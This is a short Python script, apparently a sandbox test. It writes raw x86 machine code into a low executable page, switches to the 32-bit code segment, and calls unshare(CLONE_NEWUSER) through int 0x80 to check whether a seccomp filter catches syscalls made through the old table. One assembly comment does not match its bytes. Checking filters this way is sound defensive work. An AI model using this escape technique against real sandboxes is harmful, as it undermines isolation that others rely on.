"""The program jumps into a 32-bit code segment and makes system calls from there,
where the kernel takes the old table for granted.

Blocked by the seccomp list, which is asked with the table that was used, and
refuses all but that of x86_64.
"""
import ctypes
import mmap
import os
import struct

WANTS = None
BARE = "user"

MAP_32BIT = 0x40
page = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
assert at < 1 << 32
stack, back = at + 8000, at + 256
# edi: number, esi: argument. Saves what C needs, takes a low stack, and jumps to
# the 32-bit segment (0x23); from there int 0x80, and a far jump back (0x33).
start = (b"\x53\x55\x41\x54\x89\xf8\x89\xf3"      # push rbx rbp r12; mov eax, ebx
         b"\x49\x89\xe4"                          # mov r12, rsp
         b"\xbc" + struct.pack("I", stack) +      # mov esp, stack
         b"\xff\x2d" + struct.pack("I", 64 - 22) +  # jmp far [rip + ...]
         bytes(64 - 22) + struct.pack("IH", at + 128, 0x23))
middle = (b"\xcd\x80"                             # int 0x80
          b"\xea" + struct.pack("IH", back, 0x33))  # jmp far
end = b"\x4c\x89\xe4\x41\x5c\x5d\x5b\xc3"           # mov rsp, r12; pop; ret
for offset, part in ((0, start), (128, middle), (256, end)):
    page.seek(offset)
    page.write(part)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(at)
r = call(310, 0x10000000)  # unshare(CLONE_NEWUSER)
if r == 0:
    print("ESCAPED: a user namespace from a 32-bit segment")
else:
    print("refused:", os.strerror(-r))
